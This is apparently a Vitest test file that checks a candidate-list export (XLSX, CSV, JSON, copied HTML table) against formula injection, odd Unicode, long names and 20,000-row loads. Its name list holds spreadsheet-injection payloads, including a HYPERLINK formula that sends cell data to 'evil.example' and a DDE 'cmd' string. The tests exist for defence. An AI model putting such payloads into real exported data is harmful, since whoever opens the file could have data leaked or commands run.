// @vitest-environment happy-dom

import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/node';
import { expect, test, vi } from 'vitest';

vi.mock('wxt/browser', () => import('../testing.ts'));

import { readXlsx } from 'hucre/xlsx';
import type { ListRow } from '../../utils/domain/collection.ts';
import { candidateOf, rowOf } from '../../utils/domain/testing.ts';
import { asId, type ResumeId } from '../../utils/ids.ts';
import { known, unread } from '../../utils/known.ts';
import { responseColumns } from './list-export.tsx';
import { copyOf, csvOf, jsonOf, xlsxOf } from './table-file.ts';

const columns = responseColumns(known('Главный бухгалтер'));
const at = new Date(2026, 10, 24, 14, 5);
const person = (name: string, more: Partial<ListRow> = {}) =>
  rowOf(1, {
    candidate: candidateOf({
      resumeId: asId<ResumeId>('ab12'),
      name: known(name),
      salary: known({ amount: 120_000, currency: 'RUR' }),
      url: 'https://hh.ru/resume/ab12?a="1"&b=<2>',
    }),
    createdAt: known(at.getTime()),
    ...more,
  });

/** Names of people, some of which a program might misread. */
const names = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+7 900 000-00-00',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'Ким "Витя"; Виктор, мл.',
  'Две\nстроки',
  'ليلى بنت أحمد',
  '👩🏽‍💼 Ева',
  "O'Нил",
  'Плохой\u0001знак\ud800',
  `${'длинный '.repeat(6000)}`,
];
const rows = names.map((name) => person(name));
const bytesOf = async (blob: Blob) => Buffer.from(await blob.arrayBuffer());
const indexOf = (id: string) => columns.findIndex((column) => column.id === id);

test('a workbook holds texts as texts, numbers as numbers, dates as dates, links as links', async () => {
  const file = await bytesOf(await xlsxOf('Бухгалтер: [новые]/2', columns, rows));
  const sheet = await readSheet(file);
  expect(sheet.length).toBe(names.length + 1);
  expect(sheet[0]?.slice(0, 3)).toEqual(['Имя', 'Должность', 'Возраст']);
  const said = sheet.slice(1).map((line) => String(line[0]));
  // A reader may trim the ends. XML cannot hold the last name but one, and a cell cannot hold the last.
  for (const [index, name] of names.entries())
    if (index < names.length - 2) expect(said[index]?.trim()).toBe(name.trim());
  expect(said.at(-2)).toBe('Плохойзнак\ufffd');
  expect(said.at(-1)?.length).toBeLessThanOrEqual(32_767);
  expect(sheet[1]?.[indexOf('salary')]).toBe(120_000);
  const date = sheet[1]?.[indexOf('createdAt')];
  expect(date instanceof Date && date.toISOString()).toBe('2026-11-24T14:05:00.000Z');
  const book = await readXlsx(file);
  expect(book.sheets[0]?.name).toBe('Бухгалтер   новые  2');
  const link = book.sheets[0]?.cells?.get(`1,${indexOf('resume')}`);
  expect(link?.hyperlink?.target).toBe('https://hh.ru/resume/ab12?a="1"&b=<2>');
  expect([...(book.sheets[0]?.cells?.values() ?? [])].filter(({ formula }) => formula)).toEqual([]);
});

test('no cell of a CSV begins like a formula, and reading the file gives everything back', async () => {
  const text = (await bytesOf(await csvOf(columns, rows))).toString('utf8');
  expect(text.startsWith('\ufeffИмя;Должность;')).toBe(true);
  const { data, errors } = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true });
  expect(errors).toEqual([]);
  expect(data.length).toBe(names.length + 1);
  for (const [index, name] of names.slice(0, -2).entries()) {
    const cell = data[index + 1]?.[0] ?? '';
    expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(cell.replace(/^'/, '')).toBe(name);
  }
  expect(data[1]?.[indexOf('createdAt')]).toBe('2026-11-24 14:05');
  expect(data[1]?.[indexOf('resume')]).toMatch(/^https:\/\/hh\.ru\/resume\/ab12/);
});

test('says that a fact was not read, never zero and never nothing', async () => {
  const row = person('Ким', { testScore: unread, unreadMessages: unread });
  const text = await (await csvOf(columns, [row])).text();
  expect(text.match(/неизвестно/g)).toHaveLength(2);
  const { rows: found } = JSON.parse(await jsonOf({}, columns, [row], () => ({ history: [] })).text());
  expect(found[0].unread).toEqual(['unreadMessages', 'test']);
  expect(found[0]).not.toHaveProperty('test');
  expect(found[0].createdAt).toBe(at.toISOString());
  expect(found[0].history).toEqual([]);
});

test('JSON holds everything exactly, however strange', async () => {
  const blob = jsonOf({ list: 'Бухгалтер' }, columns, rows, ({ id }) => ({ id }));
  const read = JSON.parse(await blob.text());
  expect(read).toMatchObject({ format: 'otklik-list', version: 1, list: 'Бухгалтер' });
  expect(read.rows.map(({ name }: { name: string }) => name)).toEqual(names);
});

test('a copied table is HTML with links and no formulas; its text has one line per row', () => {
  const { html, text } = copyOf(columns, rows);
  const table = new DOMParser().parseFromString(html, 'text/html');
  const lines = [...table.querySelectorAll('tr')];
  expect(lines).toHaveLength(names.length + 1);
  for (const line of lines) expect(line.querySelector('td')?.textContent).not.toMatch(/^[=+\-@\t\r\n]/);
  expect(table.querySelectorAll('a[href^="https://hh.ru/resume/ab12"]')).toHaveLength(names.length);
  expect(text.split('\n')).toHaveLength(names.length + 1);
  expect(text.split('\n').every((line) => line.split('\t').length === columns.length)).toBe(true);
});

test('20,000 rows make a workbook and a CSV in bounded memory', async () => {
  const many = Array.from({ length: 20_000 }, (_, at) => person(`Иванов Пётр ${at}`));
  const before = process.memoryUsage().heapUsed;
  const book = await xlsxOf('Все', columns, many);
  const used = process.memoryUsage().heapUsed - before;
  expect(book.size).toBeLessThan(8_000_000);
  expect(used).toBeLessThan(400_000_000);
  const csv = await csvOf(columns, many);
  expect((await csv.text()).split('\r\n').filter(Boolean)).toHaveLength(20_001);
}, 120_000);
